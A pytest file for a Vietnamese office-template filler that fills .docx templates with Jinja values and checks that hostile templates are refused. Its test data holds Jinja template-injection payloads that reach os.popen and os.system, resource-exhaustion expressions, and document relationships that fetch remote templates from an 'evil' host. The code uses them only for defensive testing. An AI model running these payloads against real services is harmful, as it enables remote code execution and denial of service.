"""An office's own template: born in Word or LibreOffice, filled in; hostile ones are refused."""

from __future__ import annotations

import io
import subprocess
from collections import Counter
from collections.abc import Iterable
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from jinja2 import Environment

from tests.documents.papers import samples
from tests.documents.report.paper import Paper
from tests.documents.schema import schema_faults
from tracker.documents.paper_example import example
from tracker.documents.paper_sample import SAMPLE
from tracker.documents.paper_template import fill
from tracker.documents.paper_values import PAPER, values
from tracker.domain.errors import InvalidInput

LINES = (
    "{{ co_quan_ban_hanh|upper }}",
    "Số: {{ so_ky_hieu }}",
    "{% if co_quan_chu_quan %}{{ co_quan_chu_quan }}{% endif %}",
    "{%p for noi in kinh_gui %}",
    "- {{ noi }};",
    "{%p endfor %}",
    "{{ ket_thuc }}./.",
)
ROWS = ("{%tr for d in dong %}", "{{ d.cot_1 }}", "{%tr endfor %}")


def a_template(*lines: str, table: bool = True) -> bytes:
    """A template as somebody types it in Word."""
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    if table:
        found = document.add_table(rows=3, cols=2)
        for row, text in enumerate(ROWS):
            found.cell(row, 0).text = text
        found.cell(1, 1).text = "{{ d.cot_2 }}"
    document.sections[0].header.paragraphs[0].text = "{{ loai_van_ban }}"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(content: bytes, part: str, *changes: tuple[str, str]) -> bytes:
    """The same package with a part changed."""
    parts = Paper(content).parts
    text = parts[part].decode()
    for before, after in changes:
        assert before in text
        text = text.replace(before, after)
    return zipped((name, text.encode() if name == part else data) for name, data in parts.items())


def zipped(parts: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


def split_by_proofing(content: bytes) -> bytes:
    """As Word keeps it: a placeholder cut into runs, with marks of the spelling checker between."""
    cut = (
        '</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:lang w:val="en-US"/></w:rPr>'
        '<w:t xml:space="preserve">'
    )
    return changed(
        content,
        "word/document.xml",
        ("{{ so_ky_hieu", "{{ so_ky" + cut + "_hieu"),
        ("{%p for noi", "{" + cut + "%p for" + cut + " noi"),
        ("{{ d.cot_1", "{{ d." + cut + "cot_1"),
    )


def with_relations_of_libre_office(content: bytes) -> bytes:
    """LibreOffice calls the core properties by another name, so the library adds its own."""
    return changed(
        content,
        "_rels/.rels",
        (
            "schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "schemas.openxmlformats.org/officedocument/2006/relationships/metadata/core-properties",
        ),
    )


def read(content: bytes, *, table: int = 0) -> tuple[list[str], list[list[str]]]:
    document = docx.Document(io.BytesIO(content))
    rows = [[cell.text for cell in row.cells] for row in document.tables[table].rows]
    return [paragraph.text for paragraph in document.paragraphs], rows


BIRTHS = {
    "word": lambda: a_template(*LINES),
    "proofread": lambda: split_by_proofing(a_template(*LINES)),
    "libre office": lambda: with_relations_of_libre_office(a_template(*LINES)),
}


@pytest.mark.parametrize("born", BIRTHS)
def test_a_template_is_filled_in_and_opens_without_repair(born: str, tmp_path: Path) -> None:
    filled = fill(BIRTHS[born](), values(SAMPLE), PAPER)
    lines, rows = read(filled)
    assert lines == [
        "ỦY BAN NHÂN DÂN HUYỆN (MINH HỌA)",
        "Số: 05/UBND-VP",
        "Ủy ban nhân dân tỉnh (minh họa)",
        "- Phòng thứ nhất;",
        "- Phòng thứ hai;",
        "Câu kết thúc minh họa./.",
    ]
    assert rows == [["Nhóm minh họa", ""], ["1", "Nội dung"]]
    header = docx.Document(io.BytesIO(filled)).sections[0].header
    assert header.paragraphs[0].text == "Công văn"
    faults = [
        fault for fault in schema_faults(filled, tmp_path) if "stylesWithEffects" not in fault
    ]
    assert faults == []
    with ZipFile(io.BytesIO(filled)) as package:
        assert max(Counter(package.namelist()).values()) == 1
        assert package.read("_rels/.rels").count(b"core-properties") == 1


def test_text_of_people_is_text_and_never_markup() -> None:
    hostile = 'Ban A & B <2026> "x" {{ 7*7 }} \x00\x0b'
    content = samples.letter().numbered(7, samples.letter().as_of)
    filled = fill(
        a_template("{{ trich_yeu }}"), dict(values(content)) | {"trich_yeu": hostile[:-2]}, PAPER
    )
    assert read(filled)[0] == ['Ban A & B <2026> "x" {{ 7*7 }} ']
    assert "\x00" not in str(values(samples.nasty()))
    fill(a_template(*LINES), values(samples.nasty()), PAPER)


HOSTILE = [
    ("{{ ''.__class__.__mro__ }}", "lệnh không được phép"),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "lệnh không được phép"),
    ("{{ trich_yeu.format(1) }}", "lệnh không được phép"),
    ("{{ trich_yeu|attr('format') }}", "lệnh không được phép"),
    ("{% for x in range(10**9) %}{% endfor %}", "lệnh không được phép"),
    ("{{ 'a' * 999999999 }}", "lệnh không được phép"),
    ("{% set a = 1 %}", "lệnh không được phép"),
    ("{% include 'x' %}", "lệnh không được phép"),
    ("{% macro f() %}{% endmacro %}", "lệnh không được phép"),
    ("{{ kinh_gui[0] }}", "lệnh không được phép"),
    ("{% for doan in doan %}{% endfor %}", "lệnh không được phép"),
    ("".join(f"{{% for {x} in doan %}}" for x in "abc") + "{% endfor %}" * 3,
     "lệnh không được phép"),
    ("{{ so_van_ban }}", "không có trong danh mục: so_van_ban"),
    ("{{ trich_yeu", "viết sai"),
    ("{% for x in doan %}", "viết sai"),
    ("{{r ho_ten }}", "đặt sai chỗ"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "sentence"), HOSTILE)
def test_a_hostile_or_wrong_template_is_refused_with_its_sentence(text: str, sentence: str) -> None:
    with pytest.raises(InvalidInput, match=sentence) as refused:
        fill(a_template(text, table=False), values(SAMPLE), PAPER)
    assert refused.value.field == "files"


@pytest.mark.parametrize("part", ["header", "footer"])
def test_what_hides_in_a_header_or_footer_is_refused_too(part: str) -> None:
    document = docx.Document()
    getattr(document.sections[0], part).paragraphs[0].text = "{{ ''.__class__ }}"
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(InvalidInput, match="lệnh không được phép"):
        fill(out.getvalue(), values(SAMPLE), PAPER)


def test_without_the_sandbox_the_attack_works(tmp_path: Path) -> None:
    """The positive control: the very expression that is refused would run a program."""
    proof = tmp_path / "proof"
    attack = f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}}"
    Environment(autoescape=True).from_string(attack).render()
    assert proof.exists()
    proof.unlink()
    with pytest.raises(InvalidInput):
        fill(a_template(attack, table=False), values(SAMPLE), PAPER)
    assert not proof.exists()


@pytest.mark.parametrize(
    "relation",
    [
        '<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" '
        'TargetMode="External"/>',
        '<Relationship Id="rX" Type="http://x/image" Target="http://evil/x.png" '
        'TargetMode="External"/>',
        '<Relationship Id="rX" Type="http://x/oleObject" Target="embeddings/x.bin"/>',
    ],
)
def test_foreign_objects_and_what_is_fetched_from_outside_are_refused(relation: str) -> None:
    spoilt = changed(
        a_template(*LINES),
        "word/_rels/document.xml.rels",
        ("</Relationships>", f"{relation}</Relationships>"),
    )
    with pytest.raises(InvalidInput, match="liên kết ra ngoài"):
        fill(spoilt, values(SAMPLE), PAPER)


@pytest.mark.parametrize("content", [b"", b"PK", b"no zip", zipped([("a.txt", b"a")])])
def test_what_is_no_document_is_refused(content: bytes) -> None:
    with pytest.raises(InvalidInput):
        fill(content, values(SAMPLE), PAPER)


def test_every_placeholder_has_a_value_for_every_paper() -> None:
    for sample in samples.ALL:
        found = values(sample())
        assert set(found) == {placeholder.name for placeholder in PAPER.placeholders}
        for placeholder in PAPER.placeholders:
            assert isinstance(found[placeholder.name], list if placeholder.is_list else str)


@pytest.mark.libreoffice
def test_a_template_saved_by_libre_office_itself(tmp_path: Path) -> None:
    source = tmp_path / "mau.docx"
    source.write_bytes(a_template(*LINES))
    out = tmp_path / "out"
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "docx:MS Word 2007 XML", "--outdir", str(out), str(source)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    filled = fill((out / "mau.docx").read_bytes(), values(SAMPLE), PAPER)
    lines, rows = read(filled)
    assert "Số: 05/UBND-VP" in lines
    assert rows == [["Nhóm minh họa", ""], ["1", "Nội dung"]]
    with ZipFile(io.BytesIO(filled)) as package:
        assert max(Counter(package.namelist()).values()) == 1
        assert package.read("_rels/.rels").count(b"core-properties") == 1


@pytest.mark.libreoffice
def test_a_template_that_lived_as_odt_draws_the_whole_example(tmp_path: Path) -> None:
    """Written in LibreOffice's own format, then saved as .docx: lists, rows and text hold."""
    (tmp_path / "mau.docx").write_bytes(example())
    order = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    for source, kind in (("mau.docx", "odt"), ("mau.odt", "docx:MS Word 2007 XML")):
        subprocess.run(
            [*order, "--convert-to", kind, "--outdir", str(tmp_path), str(tmp_path / source)],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
    drawn = fill((tmp_path / "mau.docx").read_bytes(), values(SAMPLE), PAPER)
    lines, rows = read(drawn, table=1)
    assert "trích yếu minh họa & “ngoặc kép” <thử>" in lines
    assert [line for line in lines if line.startswith("Kính gửi")] == [
        "Kính gửi: Phòng thứ nhất", "Kính gửi: Phòng thứ hai",
    ]  # fmt: skip
    assert [row[0] for row in rows] == ["TT", "Nhóm minh họa", "1"]
